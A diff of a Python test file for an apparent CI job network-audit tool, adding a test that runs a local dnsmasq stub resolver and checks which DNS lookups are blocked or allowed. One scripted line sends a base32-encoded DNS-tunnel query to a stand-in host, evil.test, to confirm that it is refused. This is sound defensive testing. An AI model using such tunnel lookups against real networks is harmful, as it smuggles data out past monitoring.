@@ -74,9 +74,9 @@ for f in failures:
 class Agent:
     """The agent script running under argv_prefix (a namespace and/or cgroup), until stop()."""
 
-    def __init__(self, argv_prefix, stop_file: Path) -> None:
+    def __init__(self, argv_prefix, stop_file: Path, resolver: str = V4[1]) -> None:
         self.stop_file = stop_file
-        argv = [*argv_prefix, sys.executable, "-c", AGENT, V4[1], OTHER_V4, str(HTTP_PORT), str(stop_file)]
+        argv = [*argv_prefix, sys.executable, "-c", AGENT, resolver, OTHER_V4, str(HTTP_PORT), str(stop_file)]
         self.proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
         first = self.proc.stdout.readline()
         if first != "ready\n":
@@ -234,3 +234,45 @@ def test_a_signal_to_the_recorder_also_ends_the_job(lab, tmp_path, policy):
     _, err = proc.communicate(timeout=30)
     assert proc.returncode == 128 + signal.SIGTERM, err
     assert not list(lab.cgroup.glob("cicd-audit-job-*")), "the job's cgroup was left behind"
+
+
+def test_the_jobs_lookups_through_a_local_stub_are_judged_and_the_stub_serves_the_rest(lab, tmp_path, policy):
+    """resolv.conf names a stub resolver on the loopback, as systemd-resolved's 127.0.0.53 on a
+    runner. The job's lookups go upstream from its own sockets instead, judged by name (a
+    tunnel through the stub is refused) and learnt (an allowed name connects), while the stub
+    never sees them and keeps answering the runner agent everything it asks."""
+    stub_log = tmp_path / "stub.log"
+    lab.popen(lab.client_ns, [
+        "dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts", "--listen-address", "127.0.0.53",
+        "--bind-interfaces", f"--server={V4[1]}", "--cache-size=0", "--log-queries", f"--log-facility={stub_log}",
+        "--pid-file=", "--user=root"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + 15
+    while "127.0.0.53:53" not in lab.run(lab.client_ns, ["ss", "-H", "-lun"]).stdout:
+        assert time.monotonic() < deadline, "the stub resolver did not start"
+        time.sleep(0.1)
+    Path(f"/etc/netns/{lab.client_ns}/resolv.conf").write_text("nameserver 127.0.0.53\noptions timeout:1 attempts:1\n")
+    agent = Agent(in_netns(lab.client_ns, []), tmp_path / "stop", resolver="127.0.0.53")
+    script = "; ".join([
+        "echo unlisted $(dig +tries=1 +time=1 jobonly.example.test | grep -oE 'status: [A-Z]+')",
+        "echo tunnel $(dig +tries=1 +time=1 MZXW6YTBOI.t.evil.test | grep -oE 'status: [A-Z]+')",
+        "echo answer $(dig +short +tries=1 +time=1 www.example.test A)",
+        f"echo allowed $({shlex.join(CURL)} http://www.example.test:{HTTP_PORT}/)",
+        "sleep 1",
+    ])
+    out = tmp_path / "logs"
+    try:
+        r = lab.record(out, ["sh", "-c", script], "--block", "--policy", str(policy), "--resolver", V4[1])
+    finally:
+        ok, failures = agent.stop()
+    assert r.returncode == 0, r.stderr
+    seen = job_results(r.stdout)
+    assert seen == {"unlisted": "status: NXDOMAIN", "tunnel": "status: NXDOMAIN", "answer": V4[1], "allowed": "200"}, seen
+    assert failures == [] and ok >= 20, (ok, failures)
+    asked = stub_log.read_text()
+    assert "control.example.test" in asked, "the agent's lookups go through the stub"
+    for name in ("jobonly", "evil.test", "www.example.test"):
+        assert name not in asked, f"the job's lookup of {name} went through the shared stub"
+    dns = list(read_log(out / "dns.log")[1])
+    judged = {d["query"]: (d["id.resp_h"], d["rcode_name"]) for d in dns if d["query"] in ("jobonly.example.test",
+                                                                                               "www.example.test")}
+    assert judged == {"jobonly.example.test": (V4[1], "NXDOMAIN"), "www.example.test": (V4[1], "NOERROR")}, judged
